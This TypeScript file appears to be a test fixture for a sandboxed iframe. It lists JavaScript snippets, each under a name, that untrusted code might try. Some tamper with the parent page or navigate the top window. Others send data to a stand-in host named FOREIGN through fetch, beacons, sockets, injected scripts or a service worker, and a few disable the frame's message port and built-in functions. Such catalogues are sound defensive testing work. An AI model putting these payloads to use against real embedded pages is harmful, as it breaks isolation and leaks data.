/**
 * What code of a stranger may try inside the frame, by name. `FOREIGN` stands for another host
 * that takes down whatever reaches it.
 */
export const ATTACKS: Record<string, string> = {
  // The page around it.
  'title of the page': 'parent.document.title = "taken"',
  'body of the page': 'parent.document.body.innerHTML = ""',
  'frame element': 'frameElement.removeAttribute("sandbox")',
  'storage of the page': 'parent.localStorage.setItem("taken", "1")',
  'function of the page': 'parent.alert("taken")',
  'variable of the page': 'parent.taken = 1',
  'history of the page': 'parent.history.back()',
  'top navigation': 'top.location = "FOREIGN/top"',
  'top navigation by replace': 'top.location.replace("FOREIGN/replace")',
  'top navigation by open': 'open("FOREIGN/open-top", "_top")',
  'top navigation by a link':
    'Object.assign(document.createElement("a"), { href: "FOREIGN/link", target: "_top" }).click()',
  // What the reader sees.
  popup: 'open("FOREIGN/popup")',
  'popup by a link':
    'Object.assign(document.createElement("a"), { href: "FOREIGN/blank", target: "_blank" }).click()',
  alert: 'alert("taken")',
  confirm: 'confirm("taken")',
  prompt: 'prompt("taken")',
  print: 'print()',
  fullscreen: 'document.documentElement.requestFullscreen()',
  download:
    'Object.assign(document.createElement("a"), { href: "data:text/plain,a", download: "a" }).click()',
  // What the browser keeps.
  cookie: 'document.cookie = "taken=1"',
  database: 'indexedDB.open("taken")',
  cache: 'caches.open("taken")',
  'service worker': 'navigator.serviceWorker.register("FOREIGN/worker.js")',
  // Other hosts.
  request: 'fetch("FOREIGN/fetch", { mode: "no-cors" })',
  'old request':
    'const request = new XMLHttpRequest(); request.open("GET", "FOREIGN/xhr"); request.send()',
  beacon: 'navigator.sendBeacon("FOREIGN/beacon", "taken")',
  socket: 'new WebSocket("FOREIGN/socket".replace("http", "ws"))',
  'event source': 'new EventSource("FOREIGN/events")',
  picture: 'new Image().src = "FOREIGN/picture"',
  style: 'document.body.style.background = "url(FOREIGN/style)"',
  'style sheet':
    'document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: "FOREIGN/sheet.css" }))',
  script:
    'document.head.append(Object.assign(document.createElement("script"), { src: "FOREIGN/script.js" }))',
  module: 'new Function("return import(\'FOREIGN/module.js\')")()',
  eval: 'window.eval("fetch(\'FOREIGN/eval\')")',
  worker: 'new Worker(URL.createObjectURL(new Blob(["fetch(\'FOREIGN/worker\')"])))',
  frame:
    'document.body.append(Object.assign(document.createElement("iframe"), { src: "FOREIGN/frame" }))',
  'frame of a text':
    'document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<img src=\'FOREIGN/srcdoc\'>" }))',
  object:
    'document.body.append(Object.assign(document.createElement("object"), { data: "FOREIGN/object" }))',
  form: 'const form = document.createElement("form"); form.action = "FOREIGN/form"; document.body.append(form); form.submit()',
  prefetch:
    'document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: "FOREIGN/prefetch" }))',
  base: 'document.head.append(Object.assign(document.createElement("base"), { href: "FOREIGN/" })); new Image().src = "base"',
  // The frame's own program.
  port: 'window.__ledgerPort.postMessage({ type: "stop", id: 1, reason: "flood" })',
  'replaced functions':
    'MessagePort.prototype.postMessage = () => {}; window.setTimeout = () => 0; Function.prototype.bind = () => () => {}',
};

/** How code may try to show another page in its frame. */
export const DEPARTURES: Record<string, string> = {
  'its own navigation': 'location.href = "FOREIGN/leave"',
  'a refresh':
    'document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=FOREIGN/refresh" }))',
  'a reload': 'location.reload()',
  'a blank page': 'location.href = "about:blank"',
};
